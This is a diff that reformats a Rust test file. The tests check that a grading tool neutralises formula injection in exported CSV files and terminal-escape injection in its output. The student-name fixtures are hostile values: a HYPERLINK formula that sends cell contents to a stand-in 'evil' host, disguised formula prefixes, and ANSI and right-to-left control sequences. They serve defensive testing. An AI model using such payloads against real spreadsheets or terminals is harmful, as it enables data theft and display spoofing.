@@ -8,7 +8,11 @@ use crate::common::terminal::Terminal;
 
 const STUDENTS: [(&str, &str, &str); 5] = [
     ("ada", "=1+2", "@SUM(1)"),
-    ("bob", "\u{a0}=1", "\"\u{a0}=HYPERLINK(\"\"http://evil/?\"\"&A1)\""),
+    (
+        "bob",
+        "\u{a0}=1",
+        "\"\u{a0}=HYPERLINK(\"\"http://evil/?\"\"&A1)\"",
+    ),
     ("cyd", "\u{ff1d}1", "\u{ff20}a"),
     ("dan", "-1", "+1"),
     ("eve", "x\u{1b}[31m\u{202e}", "\u{1b}]0;evil\u{7}"),
@@ -21,12 +25,18 @@ fn no_name_is_a_formula_in_a_table() {
     let pages = fs::read_to_string(class.path("private/pages.csv")).unwrap();
     let grades = class.succeeds(&["grade"]);
     for (table, columns) in [(&pages, [1].as_slice()), (&grades, &[1, 2])] {
-        let mut rows = table.lines().skip(1).map(|line| line.splitn(4, ',').collect::<Vec<_>>());
+        let mut rows = table
+            .lines()
+            .skip(1)
+            .map(|line| line.splitn(4, ',').collect::<Vec<_>>());
         for (id, _, _) in &STUDENTS[..4] {
             let row = rows.next().unwrap();
             assert_eq!(row[0], *id, "{table}");
             for column in columns {
-                assert!(row[*column].trim_start_matches('"').starts_with('\''), "{table}");
+                assert!(
+                    row[*column].trim_start_matches('"').starts_with('\''),
+                    "{table}"
+                );
             }
         }
     }
@@ -41,5 +51,8 @@ fn no_name_controls_a_terminal() {
     command.args(["class", "grade", "-C"]).arg(class.path(""));
     let (shown, _) = Terminal::sized((200, 24), command).ends();
     assert!(shown.contains("x\\u{1b}[31m\\u{202e}"), "{shown:?}");
-    assert!(!shown.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{shown:?}");
+    assert!(
+        !shown.contains(['\u{1b}', '\u{7}', '\u{202e}']),
+        "{shown:?}"
+    );
 }
